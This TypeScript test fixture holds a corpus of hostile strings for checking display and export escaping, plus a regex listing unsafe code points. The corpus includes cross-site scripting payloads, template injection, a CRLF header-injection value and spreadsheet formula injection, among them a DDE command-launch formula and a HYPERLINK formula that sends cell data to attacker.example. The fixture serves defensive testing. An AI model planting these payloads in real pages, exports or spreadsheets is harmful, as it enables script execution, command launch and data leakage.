/**
 * Hostile strings for display and export tests (shared/RELIABILITY.md: "a payload corpus, at least 30 payloads,
 * times every place a string is shown"): markup and script injection, spreadsheet formulas, bidi and invisible
 * characters, control characters, broken UTF-16, and very long text. Plain data, used by unit tests and e2e specs.
 */
export const HOSTILE_STRINGS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  'javascript:alert(document.domain)',
  '<a href="javascript:alert(1)">x</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '</title><script>alert(1)</script>',
  '<style>*{display:none}</style>',
  '=HYPERLINK("http://attacker.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1+1)',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTAB-led',
  '\rCR-led',
  '\u0000NUL-led',
  'invoice\u202Etxt.exe',
  '\u2066hidden\u2069 isolate',
  'arabic\u061Cmark',
  'pay\u200Bpal.example',
  'soft\u00ADhyphen',
  'bom\uFEFFinside',
  'line\u2028separator',
  'bell\u0007 and escape\u001B[31m red',
  'C1 \u0085 next line',
  'tag smuggling \u{E0041}\u{E0042}',
  'lone \uD800 surrogate',
  'replacement \uFFFD char',
  'back\\slash \\x41',
  'CRLF\r\nSet-Cookie: pwned=1',
  'שלום עולם',
  '日本語のホスト名',
  '👩‍💻 emoji',
  'x'.repeat(100_000),
  '__proto__',
  'constructor',
]

/** Code points escapeDisplay must never let through (an independent statement of the rule, for tests). */
export const UNSAFE_FOR_DISPLAY =
  /[\u0000-\u001f\u007f-\u009f\u00ad\u034f\u061c\u115f\u1160\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\uffa0\ufff9-\ufffb\ufffd\u{e0000}-\u{e007f}]|\p{Cs}/u
